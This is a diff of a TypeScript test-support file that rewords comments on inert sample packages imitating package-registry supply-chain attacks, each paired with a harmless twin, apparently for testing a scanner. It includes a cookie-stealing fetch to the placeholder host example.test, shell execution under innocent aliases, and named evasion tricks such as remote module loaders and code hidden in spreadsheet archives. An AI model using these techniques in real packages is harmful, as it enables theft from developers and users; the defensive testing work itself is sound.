@@ -2,17 +2,17 @@ import { gzipSync } from 'node:zlib'
 import { buildZip, type EntrySpec } from '../archive/zip-builder.test-support.ts'
 
 /**
- * Small packs that do what attacks on package registries were reported to do, and a harmless twin of each that does
- * something alike for a good reason. They are inert: every host is `example.test`, every payload is empty.
+ * Small packs that imitate attacks reported on package registries, each with a harmless twin that does
+ * something similar for a good reason. They are inert: every host is `example.test`, every payload is empty.
  */
 export interface Attack {
-  /** The technique, as a sentence says it. */
+  /** The technique, as the rest of a sentence. */
   name: string
   files: Readonly<Record<string, string | Uint8Array>>
   twin: Readonly<Record<string, string | Uint8Array>>
 }
 
-/** Most need one file only. */
+/** Builds an attack that needs only one file, as most do. */
 function python(name: string, attack: string, twin: string): Attack {
   return { name, files: { '__init__.py': attack }, twin: { '__init__.py': twin } }
 }
@@ -530,7 +530,7 @@ const fileAttacks: Attack[] = [
   },
 ]
 
-/** A text on its way to the method that runs it, through a file in which nothing else tells. */
+/** Passes a text to the method that runs it, through a file without any other sign. */
 function throughFile(between: string): Attack {
   const files = (fetched: string) => ({
     '__init__.py': `import requests
@@ -553,7 +553,7 @@ carry = Runner().carry`,
   }
 }
 
-/** Statements that give names to parts of what they take apart. */
+/** Statements that bind names to parts of a value. */
 const targets = [
   'match made:\n    case object(carry=run):\n        run(code)',
   'match made:\n    case object(other=run) | object(carry=(_ as run)):\n        run(code)',
@@ -599,11 +599,11 @@ function throughTarget(statement: string): Attack {
   )
 }
 
-/** A function that is long enough to be left out unless something in it is telling. */
+/** A function long enough to be left out unless something in it is telling. */
 const longFunction = (call: string, indent = '') =>
   `def go():\n${'    y = [n * n for n in range(10)]\n'.repeat(20)}    ${call}`.replace(/^/gm, indent)
 
-/** Runs its command under a name that says nothing, in a function that nothing else makes worth following. */
+/** Attacks that run a command under an innocent name, in a function that is otherwise not worth following. */
 const underOtherNames: readonly [string, string][] = [
   ['from subprocess import run', 'run(["sh", "-c", text])'],
   ['from subprocess import run as start', 'start(["sh", "-c", text])'],
@@ -896,7 +896,7 @@ function tarOf(name: string, data: string): Uint8Array {
 
 const image = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)
 
-/** What lies in an archive inside the archive. */
+/** Attacks in an archive inside the archive. */
 const nestedAttacks: Attack[] = [
   {
     name: 'ships a wheel that runs what an address answers',
@@ -963,7 +963,7 @@ const nestedAttacks: Attack[] = [
   },
 ]
 
-/** Long enough for a function that nothing tells of, and that is read only when something is given to it. */
+/** Makes a function long enough to be read only when something is passed to it. */
 const sums = Array.from({ length: 20 }, (_, i) => `    value_${i} = alpha * ${i} + beta\n`).join('')
 
 const evasions: Attack[] = [
@@ -1086,7 +1086,7 @@ const evasions: Attack[] = [
   },
 ]
 
-/** Where Python itself calls what a pack defines, or takes what it gives. */
+/** Attacks in functions that Python itself calls, or in their results. */
 const hookedAttacks: Attack[] = [
   python(
     'lets a loader of its own fetch the source of a module',
@@ -1210,7 +1210,7 @@ const hookedAttacks: Attack[] = [
   ),
 ]
 
-/** Ways around a plain call, and around a plain request, in scripts. */
+/** Ways to hide a call or a request in scripts. */
 const scriptEvasions: Attack[] = [
   script(
     'calls eval as a method of itself',
@@ -1294,7 +1294,7 @@ const scriptEvasions: Attack[] = [
   ),
 ]
 
-/** What an object, a record, a pool or a table hands on, and what Python calls of a class by itself. */
+/** Attacks through objects, records, pools and tables, and through methods that Python calls itself. */
 const handedAttacks: Attack[] = [
   python(
     'takes what it runs from the class above',
@@ -1438,7 +1438,7 @@ const handedAttacks: Attack[] = [
   ),
 ]
 
-/** A pack with a page or a picture beside its scripts. */
+/** Builds a pack with a page or a picture in addition to its scripts. */
 function page(name: string, path: string, attack: string, twin: string): Attack {
   const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
   return {
@@ -1451,7 +1451,7 @@ function page(name: string, path: string, attack: string, twin: string): Attack 
 const theft = 'fetch("https://example.test/?c=" + document.cookie)'
 const ownRequest = 'fetch("/api/x")'
 
-/** Scripts in files of other kinds. */
+/** Scripts in files of other types. */
 const pageAttacks: Attack[] = [
   page(
     'sends cookies from a page',
@@ -1534,7 +1534,9 @@ const pageAttacks: Attack[] = [
   ),
 ]
 
-/** An old spreadsheet as a newer program saves it: with an archive at its end, which holds the theme. */
+/**
+ * Builds an old spreadsheet as newer programs save it: with an archive at its end that contains the theme.
+ */
 function spreadsheet(entries: EntrySpec[]): Uint8Array {
   const head = Buffer.alloc(512)
   Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head)
@@ -1555,7 +1557,7 @@ const developers = {
 const web = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
 const served = { 'web/main.js': 'const a = 1' }
 
-/** Each beside something that honest packs have, which looks nearly the same. */
+/** Attacks that look nearly the same as parts of honest packs. */
 const nearlyHonest: Attack[] = [
   {
     name: 'hides code in the archive of a spreadsheet',
